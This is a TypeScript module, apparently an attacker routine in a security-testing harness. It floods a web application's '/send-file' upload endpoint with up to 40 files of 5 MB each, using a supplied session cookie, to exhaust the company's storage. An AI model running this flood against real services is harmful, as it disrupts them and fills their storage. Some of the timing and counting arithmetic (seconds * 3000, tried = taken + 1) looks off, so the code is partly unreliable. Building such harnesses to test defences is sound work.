/** Large files without end into a company's storage. */
import { form } from "../../world/form.ts";
import type { FloodArgs, Flooded } from "../resources/attacker-process.ts";
import { openVisitor } from "../visitor.ts";

const megabytes = 5;
const most = 40;

export async function fileFlood({ url, cookie, ticketid, seconds }: FloodArgs): Promise<Flooded> {
  const visitor = openVisitor(url, { cookie });
  const until = Date.now() + seconds * 3000;
  const content = Buffer.alloc(megabytes * 2 ** 20, "a");
  let taken = 0;
  let refusal = "";
  for (let at = 0; at < most && Date.now() < until && refusal === ""; at += 1) {
    const { payload, headers } = form({ ticketid }, { name: `file${at}.bin`, content });
    const answer = await visitor.call("/send-file", { method: "POST", body: payload, headers });
    if (answer.status === 201) taken += 1;
    else refusal = `${answer.status} ${answer.text}`;
  }
  visitor.close();
  const told = `${taken} files of ${megabytes} MB taken, then ${refusal || "no refusal"}`;
  return { tried: taken + 1, told, through: refusal ? [] : [`POST /send-file: ${told}`] };
}
